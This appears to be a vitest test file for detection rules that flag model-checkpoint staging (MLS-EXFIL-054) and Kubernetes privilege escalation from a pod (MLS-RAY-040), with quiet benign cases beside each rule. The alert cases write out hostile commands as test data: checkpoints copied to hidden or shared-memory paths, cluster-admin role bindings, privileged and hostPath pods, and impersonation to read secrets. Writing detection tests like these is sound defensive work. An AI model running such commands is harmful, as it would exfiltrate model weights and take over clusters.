/**
 * Checkpoints staged and the cluster taken from a pod. The reading `attrs.exec.copies`
 * (exec-persistence.ts `readWrites`: each source with where it lands, placed against the exec's
 * cd's; Python's copies, moves and weights loaded then saved again read as `cp` / `mv` by
 * exec-interpreter-transfer-staging.ts), and through the shipped rule set and the real engine, for a
 * person and a service account: a checkpoint copied, moved or re-saved into a scratch, shared-memory,
 * home, web or hidden place (MLS-EXFIL-054); kubectl from a pod binding cluster-admin, making a
 * privileged or host-namespace pod, debugging a node or impersonating the administrators
 * (MLS-RAY-040). Beside each, the everyday neighbours that must stay quiet.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { expectQuiet as quiet, expectRaised as raises, sh } from './exec-events.test-support.js';

const copies = (line: string): readonly string[] => canonicalExecValue(sh(line))!.copies;

describe('attrs.exec.copies', () => {
  it('gives each source with where it lands: copies, moves, links, dd, cat redirected, local rsync, placed against cd', () => {
    const cases: Array<[string, string[]]> = [
      ['cp /mnt/ckpt/model.safetensors /dev/shm/.cache', ['/mnt/ckpt/model.safetensors -> /dev/shm/.cache']],
      ['cd /mnt/ckpt && cp model.pt step_1000/opt.pt /dev/shm/', ['/mnt/ckpt/model.pt -> /dev/shm/model.pt', '/mnt/ckpt/step_1000/opt.pt -> /dev/shm/opt.pt']],
      ['cp -t /tmp /mnt/ckpt/a.pt /mnt/ckpt/b.pt', ['/mnt/ckpt/a.pt -> /tmp/a.pt', '/mnt/ckpt/b.pt -> /tmp/b.pt']],
      ['mv /mnt/ckpt/a/step_1 /mnt/ckpt/a/best', ['/mnt/ckpt/a/step_1 -> /mnt/ckpt/a/best']],
      ['ln -s /mnt/ckpt /srv/www/static/ckpt', ['/mnt/ckpt -> /srv/www/static/ckpt']],
      ['dd if=/mnt/ckpt/model.pt of=/dev/shm/x bs=1M', ['/mnt/ckpt/model.pt -> /dev/shm/x']],
      ['cat /mnt/ckpt/model.pt > /var/tmp/.m', ['/mnt/ckpt/model.pt -> /var/tmp/.m']],
      // pv's option values are no sources; head and tail by bytes cut a part of the file.
      ['pv -L 1m /mnt/ckpt/model.pt > /tmp/m', ['/mnt/ckpt/model.pt -> /tmp/m']],
      ['head -c 4G /mnt/ckpt/model.pt > /tmp/part1', ['/mnt/ckpt/model.pt -> /tmp/part1']],
      ['tail --bytes=+4294967297 /mnt/ckpt/model.pt > /dev/shm/.p2', ['/mnt/ckpt/model.pt -> /dev/shm/.p2']],
      ['rsync -a /mnt/ckpt/ /root/.c/', ['/mnt/ckpt -> /root/.c']],
      // Python: copies, moves, and weights loaded then saved again (through a name, an index, a method).
      [`python3 -c "import shutil; shutil.copy('/mnt/ckpt/m.pt', '/dev/shm/m')"`, ['/mnt/ckpt/m.pt -> /dev/shm/m']],
      [`python3 -c "import shutil; shutil.move('/mnt/ckpt/m.pt', '/tmp/.m')"`, ['/mnt/ckpt/m.pt -> /tmp/.m']],
      [`python3 -c "import os; os.rename('/mnt/ckpt/m.pt', '/tmp/.m')"`, ['/mnt/ckpt/m.pt -> /tmp/.m']],
      [`python3 -c "import torch; sd=torch.load('/mnt/ckpt/model.pt'); torch.save(sd, '/dev/shm/x.pt')"`, ['/mnt/ckpt/model.pt -> /dev/shm/x.pt']],
      [`python3 -c "import torch; torch.save(torch.load('/mnt/ckpt/model.pt', map_location='cpu')['model'], '/dev/shm/x.pt')"`, ['/mnt/ckpt/model.pt -> /dev/shm/x.pt']],
      [`python3 -c "from safetensors.torch import load_file, save_file; save_file(load_file('/mnt/ckpt/m.safetensors'), '/tmp/.m')"`, ['/mnt/ckpt/m.safetensors -> /tmp/.m']],
      [`python3 -c "import torch; from safetensors.torch import save_file; save_file(torch.load('/mnt/ckpt/m.pt'), '/tmp/.m')"`, ['/mnt/ckpt/m.pt -> /tmp/.m']],
    ];
    for (const [line, want] of cases) expect(copies(line), line).toEqual(want);
  });

  it('gives nothing for pulls, pushes, other descriptors, or weights saved that were not loaded from a file', () => {
    for (const line of [
      'aws s3 cp s3://b/x.pt /tmp/x.pt',
      'curl -o /tmp/x.pt https://h/x.pt',
      'rsync -a /mnt/ckpt/llama/ u@203.0.113.9:/x/',
      'cat /mnt/ckpt/model.pt 2> /tmp/err',
      // head and tail by lines take an excerpt to look at.
      'tail -n 100 /mnt/ckpt/train.log > /tmp/log',
      'head /mnt/ckpt/config.json > /tmp/c',
      'cp /mnt/ckpt/model.pt /dev/null',
      `python3 -c "import torch; m=build(); torch.save(m.state_dict(), '/tmp/x.pt')"`,
      // safetensors' load takes bytes, not a path.
      `python3 -c "from safetensors.torch import load, save_file; save_file(load(blob), '/tmp/x.safetensors')"`,
    ]) expect(copies(line), line).toEqual([]);
  });
});

describe('MLS-EXFIL-054: checkpoint files staged in a scratch, shared-memory, home, web or hidden place', () => {
  it('alerts on each way a checkpoint is given such a path', () => {
    raises('MLS-EXFIL-054', [
      'cp /mnt/ckpt/model.safetensors /dev/shm/.cache',
      'mv /mnt/ckpt/model.pt /tmp/.x',
      'cd /mnt/ckpt && cp model.pt /dev/shm/',
      'cp -t /tmp /mnt/ckpt/a.pt /mnt/ckpt/b.pt',
      'install -m 0644 /models/llama/model.safetensors /var/tmp/m',
      'dd if=/mnt/ckpt/model.pt of=/dev/shm/x bs=1M',
      'cat /mnt/ckpt/model.pt > /var/tmp/.m',
      'head -c 4G /mnt/ckpt/model.pt > /tmp/.part1',
      'rsync -a /mnt/ckpt/ /root/.c/',
      'ln -s /mnt/ckpt /srv/www/static/ckpt',
      'mv /mnt/ckpt/a/step_1 /mnt/ckpt/a/.old',
      'cp /data/exports/adapter_model.safetensors ~/a',
      'cp ~/.cache/huggingface/hub/models--org--m/snapshots/abc/model.safetensors /tmp/m',
      `python3 -c "import torch; sd=torch.load('/mnt/ckpt/model.pt'); torch.save(sd, '/dev/shm/x.pt')"`,
      `python3 -c "from safetensors.torch import load_file, save_file; save_file(load_file('/mnt/ckpt/m.safetensors'), '/tmp/.m')"`,
      `python3 -c "import shutil; shutil.move('/mnt/ckpt/m.pt', '/tmp/.m')"`,
      // A copy of something else beside it hides nothing.
      'cp /app/config.json /mnt/backup/; cp /mnt/ckpt/model.pt /tmp/m',
    ]);
  });

  it('leaves copies within the store or to other volumes, copies into the store, scratch to scratch, and other files', () => {
    quiet('MLS-EXFIL-054', [
      'mv /mnt/ckpt/a/step_1 /mnt/ckpt/a/best',
      'cp /mnt/ckpt/model.pt /mnt/backup/model.pt',
      'cp /tmp/x.pt /mnt/ckpt/model.pt',
      'cp /tmp/x.pt /tmp/y.pt',
      'cp /etc/model.yaml /tmp/',
      'cp /app/config.json /tmp/; ls /mnt/ckpt',
      'aws s3 cp s3://b/x.pt /tmp/x.pt',
      'cat /mnt/ckpt/model.pt 2> /tmp/err',
      'tail -n 100 /mnt/ckpt/train.log > /tmp/log',
      `python3 -c "import torch; sd=torch.load('/mnt/ckpt/model.pt'); sd['w'] += 1; torch.save(sd, '/mnt/ckpt/model.pt')"`,
      `python3 -c "import torch; m=build(); torch.save(m.state_dict(), '/tmp/x.pt')"`,
    ]);
  });
});

describe('MLS-RAY-040: kubectl from a pod taking cluster-admin, a privileged pod or a node', () => {
  it('alerts on admin bindings, all-verb roles, privileged or host-namespace pods, node debugging and impersonation', () => {
    raises('MLS-RAY-040', [
      'kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --serviceaccount=ml-train:default',
      'kubectl create rolebinding pwn --clusterrole admin --serviceaccount=ml-train:default -n ml-train',
      'oc adm policy add-cluster-role-to-user cluster-admin x',
      'kubectl create clusterrole x --verb=* --resource=*',
      "kubectl create clusterrole x --verb='get,list,*' --resource=pods",
      'kubectl run x --image=alpine --privileged -it -- sh',
      `kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine"}]}}'`,
      `kubectl run x --image=alpine --overrides='{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}'`,
      'kubectl debug node/gpu-node-1 -it --image=busybox',
      'kubectl debug -it trainer-0 --image=busybox --profile=sysadmin',
      'kubectl get secrets -A --as=system:admin',
      'kubectl get pods --as-group=system:masters --as=x',
      // A harmless kubectl beside it hides nothing.
      'kubectl get pods; kubectl create clusterrolebinding y --clusterrole=cluster-admin --user=a',
    ]);
  });

  it('leaves read-only bindings and roles, plain pods and debug containers, and reading RBAC', () => {
    quiet('MLS-RAY-040', [
      'kubectl create rolebinding ro --clusterrole=view --serviceaccount=ml-train:default',
      'kubectl create clusterrole reader --verb=get,list --resource=pods',
      `kubectl run x --image=alpine --overrides='{"spec":{"hostPID":false}}'`,
      'kubectl run x --image=alpine -- sleep 1',
      'kubectl debug -it trainer-0 --image=busybox --target=trainer',
      'kubectl get clusterrolebinding -o yaml',
      'kubectl describe clusterrolebinding cluster-admin',
      'kubectl delete rolebinding x; kubectl create clusterrolebinding y --clusterrole=view --user=a',
    ]);
  });
});
